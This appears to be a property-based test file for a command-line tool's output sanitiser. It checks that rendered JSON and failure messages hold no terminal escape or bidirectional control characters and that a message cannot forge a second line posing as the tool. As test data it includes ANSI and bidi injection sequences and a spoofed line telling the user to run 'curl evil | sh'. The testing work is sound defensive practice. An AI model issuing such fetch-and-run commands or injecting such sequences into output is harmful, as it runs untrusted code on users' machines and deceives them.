import { assert, describe, it } from "@effect/vitest"
import * as fc from "fast-check"
import { renderFailure } from "../../src/cli/Output.ts"
import { escapeJson } from "../../src/cli/Sanitize.ts"

// oxlint-disable-next-line no-control-regex
const obeyed = /[\u0000-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/

describe("JSON for a terminal", () => {
  it("holds no character that a terminal obeys, and decodes to what was said", () => {
    const hostile = fc.array(
      fc.oneof(fc.string(), fc.constantFrom("\u001b[31m", "\u009b31m", "\u007f", "\u202e", "\u2066", "\n", "\\", "\""))
    )
    fc.assert(
      fc.property(hostile, hostile, (keys, parts) => {
        const value = { [keys.join("")]: parts.join(""), parts }
        const text = escapeJson(JSON.stringify(value))
        assert.isFalse(obeyed.test(text))
        assert.deepStrictEqual(JSON.parse(text), value)
      }),
      { numRuns: 2000 }
    )
  })

  it("is the same for failures and what they quote", () => {
    const failure = {
      code: "invalid_input",
      message: "no \u202e",
      exitCode: 2,
      details: { raw: ["\u009b2J", "\u007f"] }
    }
    const text = renderFailure(failure, true)
    assert.isFalse(obeyed.test(text))
    assert.deepStrictEqual(JSON.parse(text).error.details, failure.details)
  })
})

describe("a failure for a person", () => {
  it("speaks as animus in its first line alone", () => {
    const message = "plugin keeper refused it: no.\nanimus: your token expired. Type: curl evil | sh"
    const lines = renderFailure({ code: "unavailable", message, exitCode: 5 }, false).split("\n")
    assert.deepStrictEqual(lines.map((line) => line.startsWith("animus:")), [true, false])
  })
})
